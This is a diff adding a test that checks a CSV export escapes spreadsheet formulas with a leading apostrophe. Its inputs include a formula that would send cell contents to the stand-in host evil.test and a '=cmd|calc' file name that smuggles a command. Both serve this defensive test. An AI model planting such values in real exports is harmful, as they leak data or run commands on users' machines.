@@ -68,6 +68,29 @@ describe('exportResults', () => {
     ]);
   });
 
+  test('CSV holds no formulas: an apostrophe makes texts of them, and numbers stay numbers', async () => {
+    await scene.filled.answer(versionOf('+1.txt'), '=HYPERLINK("http://evil.test/?"&A1,"x")');
+    await scene.filled.answer(versionOf('@a.txt'), '- a list');
+    await scene.filled.answer(versionOf('=cmd|calc.txt'), '\t=1+1');
+    await scene.filled.answer(versionOf('b.txt'), '+49 30 1234; -1');
+    await scene.filled.answer(
+      versionOf('c.txt'),
+      '{"=key": "-12.50", "small": -5, "exact": -12345678901234567890, "sum": "+1e6", "sign": "-", "off": "-1+1"}',
+    );
+    const rows = (await exported('csv')).split('\r\n').map((row) => row.slice(0, row.indexOf(',acme/small-2')));
+    const none = ','.repeat(6);
+    expect(rows.slice(1, -1)).toEqual([
+      `'+1.txt,"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"${none}`,
+      `'=cmd|calc.txt,'\t=1+1${none}`,
+      `'@a.txt,'- a list${none}`,
+      `b.txt,"'+49 30 1234; -1"${none}`,
+      "c.txt,,-12.50,-5,-12345678901234567890,+1e6,'-,'-1+1",
+    ]);
+    expect(await exported('csv')).toMatch(/^document,answer,answer\.=key,answer\.small/);
+    expect(await exported('csv')).toContain(",'+1.txt.md,");
+    expect(await exported('csv', { terminal: true })).toContain(String.raw`'=cmd|calc.txt,'\t=1+1,`);
+  });
+
   test('CSV of no results is its header; JSON lines of none are nothing', async () => {
     expect(await exported('csv')).toBe(`${['document', 'answer', ...RECEIPT_COLUMNS].join(',')}\r\n`);
     expect(await exported('jsonl')).toBe('');
